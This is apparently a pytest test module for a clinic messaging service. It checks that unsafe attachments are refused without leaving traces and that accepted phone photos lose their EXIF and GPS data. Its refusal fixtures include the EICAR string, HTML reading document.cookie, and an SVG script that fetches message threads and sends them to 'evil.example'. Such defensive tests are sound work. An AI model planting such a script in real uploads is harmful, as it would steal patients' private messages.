"""Files sent with a message: what is refused (wrong content, too large, EICAR, script-bearing
SVG or HTML, too many files) leaves no message, no attachment and no file behind; what is
accepted is cleaned (no EXIF, no GPS) and gets a thumbnail."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from apps.accounts.models import User
from apps.core.scanning import EICAR
from apps.messaging.access import ThreadAccess
from apps.messaging.models import Attachment, Message, Thread, Topic
from apps.messaging.services import MessagingError
from apps.messaging.services.attachments import open_attachment
from apps.messaging.services.threads import do_post_message, do_start_thread
from apps.records.models import Patient

GPS_IFD = 0x8825


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> Iterator[Path]:
    settings.MEDIA_ROOT = tmp_path / "media"
    # Messages are checked in English, whatever the catalogues say.
    with translation.override("en"):
        yield tmp_path / "media"


def stored_files(media: Path) -> list[Path]:
    root = media / "records"
    return sorted(root.iterdir()) if root.exists() else []


def jpeg(*, exif: bool = False, size: tuple[int, int] = (64, 48)) -> bytes:
    """A JPEG; with `exif`, the camera's make and model and a GPS position, as phones write."""
    from PIL import Image

    image = Image.new("RGB", size, (200, 80, 60))
    out = io.BytesIO()
    if exif:
        tags = Image.Exif()
        tags[0x010F] = "PhoneMaker"
        tags[0x0110] = "PhoneCam 3000"
        tags.get_ifd(GPS_IFD).update({1: "N", 2: (46.0, 31.0, 12.5), 3: "E", 4: (6.0, 37.0, 48.0)})
        image.save(out, "JPEG", exif=tags)
    else:
        image.save(out, "JPEG")
    return out.getvalue()


def png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), (0, 128, 0)).save(out, "PNG")
    return out.getvalue()


def pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> Any:
    return SimpleUploadedFile(name, content, content_type=content_type)


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/threads/').then(r=>r.text()).then(t=>new Image().src="
    b"'https://evil.example/?'+t)</script><rect width='10' height='10'/></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
NOT_ACCEPTED = "Only PDF documents and JPEG or PNG pictures can be added"
THREAT = "it contains a threat (Eicar-Test-Signature)"

# name -> (file name, content, browser content type, what the refusal says)
REFUSED: dict[str, tuple[str, Callable[[], bytes], str, str]] = {
    "exe-named-jpg": (
        "photo.jpg",
        lambda: b"MZ\x90\x00\x03" + b"\x00" * 60 + b"This program cannot be run in DOS mode",
        "image/jpeg",
        NOT_ACCEPTED,
    ),
    "exe": ("setup.exe", lambda: b"MZ\x90\x00" + b"\x00" * 200, "application/x-msdownload", ""),
    "text-named-jpg": ("plaie.jpg", lambda: b"just some text, no picture", "image/jpeg", ""),
    "png-named-pdf": ("scan.pdf", png, "application/pdf", "The file name does not match"),
    "eicar": ("eicar.com", lambda: EICAR, "application/octet-stream", THREAT),
    "eicar-named-jpg": ("photo.jpg", lambda: EICAR, "image/jpeg", THREAT),
    "eicar-named-pdf": ("report.pdf", lambda: EICAR + b"\r\n", "application/pdf", THREAT),
    "eicar-after-jpeg": ("photo.jpg", lambda: jpeg() + EICAR, "image/jpeg", THREAT),
    "svg-with-script": ("image.svg", lambda: SVG, "image/svg+xml", NOT_ACCEPTED),
    "svg-named-png": ("image.png", lambda: SVG, "image/png", NOT_ACCEPTED),
    "html": ("page.html", lambda: HTML, "text/html", NOT_ACCEPTED),
    "html-named-pdf": ("report.pdf", lambda: HTML, "application/pdf", NOT_ACCEPTED),
    "jpeg-with-script": (
        "photo.jpg",
        lambda: jpeg() + b"<script>alert(1)</script>",
        "image/jpeg",
        "web page or script code",
    ),
    "empty": ("photo.jpg", lambda: b"", "image/jpeg", "empty"),
}


@pytest.fixture
def thread(make_thread: Callable[..., Thread]) -> Thread:
    return make_thread()


def _assert_nothing_left(thread: Thread | None, messages_before: int, media: Path) -> None:
    assert Message.objects.count() == messages_before
    assert not Attachment.objects.exists()
    assert stored_files(media) == []
    if thread is not None:
        thread.refresh_from_db()
        assert thread.message_count == messages_before


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_a_refused_file_leaves_no_message_and_no_file(
    case: str, thread: Thread, patient: User, _media: Path
) -> None:
    name, make, content_type, reason = REFUSED[case]
    before = Message.objects.count()

    with pytest.raises(MessagingError) as refused:
        do_post_message(
            ThreadAccess(thread, patient),
            body="Voici le fichier",
            files=[upload(name, make(), content_type)],
        )

    message = str(refused.value)
    assert name in message and "cannot be sent" in message
    assert (reason or NOT_ACCEPTED) in message
    _assert_nothing_left(thread, before, _media)


@pytest.mark.parametrize("case", ["eicar-after-jpeg", "svg-with-script", "png-named-pdf"])
def test_a_refused_file_starts_no_conversation(
    case: str, record: Patient, patient: User, clinician: User, _media: Path
) -> None:
    name, make, content_type, reason = REFUSED[case]
    for author in (patient, clinician):
        with pytest.raises(MessagingError, match=reason.replace("(", r"\(").replace(")", r"\)")):
            do_start_thread(
                author,
                topic=Topic.WOUND if author == patient else Topic.CASE,
                subject="Photo de la plaie",
                body="",
                files=[upload(name, make(), content_type)],
                patient_id=record.pk,
            )
    assert not Thread.objects.exists()
    _assert_nothing_left(None, 0, _media)


def test_one_bad_file_among_good_ones_refuses_them_all(
    thread: Thread, clinician: User, _media: Path
) -> None:
    before = Message.objects.count()
    files = [
        upload("avant.jpg", jpeg(), "image/jpeg"),
        upload("compte-rendu.pdf", pdf(), "application/pdf"),
        upload("apres.jpg", jpeg() + EICAR, "image/jpeg"),
    ]

    with pytest.raises(MessagingError, match="apres.jpg"):
        do_post_message(ThreadAccess(thread, clinician), body="Trois fichiers", files=files)

    # the two good files were written before the third was refused: they are gone again
    _assert_nothing_left(thread, before, _media)


def test_an_oversized_file_is_refused(
    settings: Any, thread: Thread, patient: User, _media: Path
) -> None:
    settings.RECORDS_MAX_UPLOAD_BYTES = 2048
    big = jpeg(size=(400, 400))
    assert len(big) > 2048
    before = Message.objects.count()

    with pytest.raises(MessagingError, match="too large: the limit is 2"):
        do_post_message(
            ThreadAccess(thread, patient), body="", files=[upload("grande.jpg", big, "image/jpeg")]
        )

    _assert_nothing_left(thread, before, _media)


def test_too_many_files_are_refused(
    settings: Any, thread: Thread, patient: User, _media: Path
) -> None:
    settings.MESSAGING_MAX_FILES = 2
    before = Message.objects.count()
    files = [upload(f"photo{i}.jpg", jpeg(), "image/jpeg") for i in range(3)]

    with pytest.raises(MessagingError, match="At most 2 files"):
        do_post_message(ThreadAccess(thread, patient), body="", files=files)

    _assert_nothing_left(thread, before, _media)


def test_a_phone_photo_is_stored_without_exif_and_with_a_thumbnail(
    thread: Thread, patient: User, _media: Path
) -> None:
    from PIL import Image

    sent = jpeg(exif=True, size=(800, 600))
    assert b"PhoneCam" in sent and Image.open(io.BytesIO(sent)).getexif().get_ifd(GPS_IFD)

    message = do_post_message(
        ThreadAccess(thread, patient),
        body="La plaie ce matin",
        files=[upload("plaie.jpg", sent, "image/jpeg")],
    )

    attachment = Attachment.objects.get(message=message)
    assert attachment.content_type == "image/jpeg" and attachment.filename == "plaie.jpg"
    content = open_attachment(attachment)
    assert b"PhoneCam" not in content and b"PhoneMaker" not in content
    with Image.open(io.BytesIO(content)) as stored:
        assert stored.size == (800, 600)
        exif = stored.getexif()
        assert not exif.get_ifd(GPS_IFD)
        assert 0x0110 not in exif and 0x010F not in exif
    assert attachment.thumbnail_name
    with Image.open(io.BytesIO(open_attachment(attachment, thumbnail=True))) as thumbnail:
        assert thumbnail.format == "JPEG" and max(thumbnail.size) <= 320
    # the picture and its thumbnail, encrypted: the plain JPEG is nowhere on disk
    files = stored_files(_media)
    assert len(files) == 2
    assert all(not f.read_bytes().startswith(b"\xff\xd8\xff") for f in files)


def test_a_pdf_is_accepted_as_sent(thread: Thread, clinician: User) -> None:
    document = pdf()

    message = do_post_message(
        ThreadAccess(thread, clinician),
        body="Le compte-rendu",
        files=[upload("compte-rendu.pdf", document, "application/pdf")],
    )

    attachment = Attachment.objects.get(message=message)
    assert attachment.content_type == "application/pdf"
    assert attachment.size == len(document)
    assert open_attachment(attachment) == document
    assert not attachment.thumbnail_name
